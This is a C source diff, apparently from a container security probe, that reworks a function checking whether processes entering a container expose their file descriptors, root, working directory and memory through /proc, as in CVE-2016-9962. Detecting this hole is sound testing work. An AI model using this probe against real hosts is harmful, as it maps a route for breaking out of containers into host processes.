@@ -539,24 +539,36 @@ static int do_steal(char **words)
 }
 
 /* CVE-2016-9962: look into whoever comes in, by its descriptors, its root and its memory. */
-static void look_into(const char *process, void *context)
+static void read_name(const char *process, char name[64])
 {
-    (void)context;
-    static const char *const doors[] = { "fd", "root/", "cwd/", "mem" };
-    char path[300], name[64] = "";
-    snprintf(path, sizeof(path), "/proc/%s/comm", process);
+    char path[300];
+    *name = 0;
+    snprintf(path, sizeof(path), "/proc/%.64s/comm", process);
     FILE *file = fopen(path, "re");
     if (!file)
         return;
-    (void)!fscanf(file, "%63[^\n]", name);
+    if (fscanf(file, "%63[^\n]", name) != 1)
+        *name = 0;
     fclose(file);
+}
+
+static void look_into(const char *process, void *context)
+{
+    (void)context;
+    static const char *const doors[] = { "fd/0", "fd/3", "root/", "cwd/", "mem" };
     for (size_t i = 0; i < sizeof(doors) / sizeof(*doors); i++) {
+        char path[300], before[64], after[64];
+        read_name(process, before);
         snprintf(path, sizeof(path), "/proc/%.64s/%s", process, doors[i]);
         int fd = open(path, O_RDONLY | O_CLOEXEC);
         if (fd < 0)
             continue;
         close(fd);
-        printf("into.%s/%s=1\n", name, doors[i]);
+        /* In between it may have become the container's own program. */
+        usleep(1000);
+        read_name(process, after);
+        if (*before && !strcmp(before, after))
+            printf("into.%s/%s=1\n", before, doors[i]);
     }
 }
 
